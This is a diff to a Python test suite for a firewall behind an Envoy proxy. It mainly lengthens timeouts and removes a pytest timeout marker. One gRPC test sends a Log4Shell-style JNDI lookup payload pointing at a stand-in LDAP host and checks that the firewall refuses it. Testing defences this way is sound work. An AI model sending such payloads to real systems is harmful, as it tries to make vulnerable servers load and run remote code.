@@ -32,7 +32,7 @@ from tulle.server.firewall.engine import Engine, missing
 from tulle.server.firewall.service import FirewallService
 from tulle.server.firewall.words import NoFirewallError
 
-pytestmark = [pytest.mark.envoy, pytest.mark.timeout(120), pytest.mark.skipif(bool(missing()), reason=missing())]
+pytestmark = [pytest.mark.envoy, pytest.mark.skipif(bool(missing()), reason=missing())]
 
 REFUSED = (400, 403)
 """By the proxy's own parser, which some never get beyond, and by the firewall."""
@@ -116,7 +116,7 @@ def test_detecting_and_long_bodies() -> None:
 
 
 def pieces(port: int, body: list[bytes]) -> int:
-    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
+    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=60)
     try:
         headers = {**BROWSER, "content-type": "application/x-www-form-urlencoded"}
         connection.request("POST", "/", body=iter(body), headers=headers, encode_chunked=True)
@@ -378,15 +378,15 @@ def test_calls_of_grpc_go_on_as_they_stream() -> None:
     def call(port: int) -> None:
         with grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
             say, talk = channel.unary_unary("/test.Echo/Say"), channel.stream_stream("/test.Echo/Talk")
-            assert say(b"hello", timeout=10) == b"echo:hello"
+            assert say(b"hello", timeout=60) == b"echo:hello"
             asked: queue.Queue[bytes | None] = queue.Queue()
-            answers = talk(iter(asked.get, None), timeout=10)
+            answers = talk(iter(asked.get, None), timeout=60)
             for word in (b"one", b"two"):
                 asked.put(word)
                 assert next(answers) == b"echo:" + word, "each is answered before the next is sent"
             asked.put(None)
             with pytest.raises(grpc.RpcError) as refused:
-                say(b"hello", timeout=10, metadata=(("x-note", "${jndi:ldap://203.0.113.7/a}"),))
+                say(b"hello", timeout=60, metadata=(("x-note", "${jndi:ldap://203.0.113.7/a}"),))
             assert refused.value.code() is grpc.StatusCode.PERMISSION_DENIED
 
     async def whole() -> None:
